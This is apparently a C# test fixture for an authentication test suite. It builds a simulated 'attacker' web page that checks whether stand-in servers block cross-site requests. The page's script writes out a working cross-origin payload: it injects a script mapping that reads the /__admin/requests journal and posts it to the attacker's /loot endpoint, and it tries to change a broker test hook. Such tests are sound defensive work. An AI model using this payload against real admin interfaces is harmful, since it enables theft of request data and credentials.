using System.Collections.Concurrent;
using System.Text.Json;
using System.Text.Json.Nodes;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Http;
using PbenchAuthSpec.Protocol;

namespace PbenchAuthSpec.Cli.Tests;

/// <summary>
/// A web page on another site than the stand-ins: served on loopback under the name
/// <c>localhost</c>, while the stand-ins are reached as <c>127.0.0.1</c> (another site to the
/// browser). Its script tries what issue 13's first finding did: add a fault mapping that serves
/// a script on the victim's origin (it would post the journal back here as loot), switch a broker
/// test hook, read <c>/__admin/requests</c> directly; and sends one harmless simple request to an
/// ordinary path (the control: it shows the browser delivers this page's cross-site requests).
/// </summary>
internal sealed class AttackerSite : IAsyncDisposable
{
    public const string ProbePath = "/attacker-probe";

    private readonly StandInHost _host;
    private readonly TaskCompletionSource<JsonObject> _report = new(TaskCreationOptions.RunContinuationsAsynchronously);

    private AttackerSite(StandInHost host) => _host = host;

    /// <summary>Whatever a mapped page on a victim's origin managed to send back (nothing, if the stand-ins hold).</summary>
    public ConcurrentQueue<string> Loot { get; } = new();

    public string Origin => $"http://localhost:{_host.Port}";

    public string PageUrl => $"{Origin}/";

    public static async Task<AttackerSite> StartAsync(IReadOnlyList<string> victims)
    {
        AttackerSite? site = null;
        var host = await StandInHost.StartAsync(new StandInHostOptions { Name = "attacker" }, (app, _) =>
        {
            app.MapGet("/", () => Results.Content(Page(victims, site!.Origin), "text/html; charset=utf-8"));
            app.MapPost("/loot", async (HttpRequest request) =>
            {
                using var reader = new StreamReader(request.Body);
                site!.Loot.Enqueue(await reader.ReadToEndAsync());
                return Results.Ok();
            });
            app.MapPost("/report", async (HttpRequest request) =>
            {
                site!._report.TrySetResult((await JsonSerializer.DeserializeAsync<JsonObject>(request.Body))!);
                return Results.Ok();
            });
        });
        site = new AttackerSite(host);
        return site;
    }

    /// <summary>What the page's script saw of each attempt, per victim base URL; waits for the page to finish.</summary>
    public Task<JsonObject> ReportAsync() => _report.Task.WaitAsync(TimeSpan.FromSeconds(60));

    public ValueTask DisposeAsync() => _host.DisposeAsync();

    private static string Page(IReadOnlyList<string> victims, string origin)
    {
        var mapping = JsonSerializer.Serialize(new JsonObject
        {
            ["Request"] = new JsonObject { ["Path"] = "/pwned" },
            ["Response"] = new JsonObject
            {
                ["StatusCode"] = 200,
                ["Headers"] = new JsonObject { ["Content-Type"] = "text/html" },
                ["Body"] = $"<script>fetch('/__admin/requests').then(r => r.text()).then(t => fetch('{origin}/loot', {{method: 'POST', mode: 'no-cors', body: t}}))</script>",
            },
        });
        return $$"""
            <!doctype html>
            <title>a page on another site</title>
            <script>
            const victims = {{JsonSerializer.Serialize(victims)}};
            const mapping = {{JsonSerializer.Serialize(mapping)}};
            async function attempt(send) {
              try { const r = await send(); return r.type === 'opaque' ? 'sent, answer unreadable' : 'read: ' + r.status; }
              catch (e) { return 'blocked: ' + e.name; }
            }
            function frame(url) {
              return new Promise(done => { const f = document.createElement('iframe'); f.onload = () => done('loaded'); f.src = url; document.body.appendChild(f); });
            }
            (async () => {
              const seen = {};
              for (const v of victims) {
                seen[v] = {
                  probe: await attempt(() => fetch(v + '{{ProbePath}}', { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: 'probe' })),
                  mappingAsText: await attempt(() => fetch(v + '/__admin/mappings', { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: mapping })),
                  mappingAsJson: await attempt(() => fetch(v + '/__admin/mappings', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: mapping })),
                  hookAsText: await attempt(() => fetch(v + '/__admin/broker/realms/pbench-server/lifetimes', { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: '{"accessToken":1}' })),
                  journal: await attempt(() => fetch(v + '/__admin/requests')),
                };
                seen[v].pwned = await frame(v + '/pwned');
              }
              await fetch('/report', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(seen) });
            })();
            </script>
            """;
    }
}
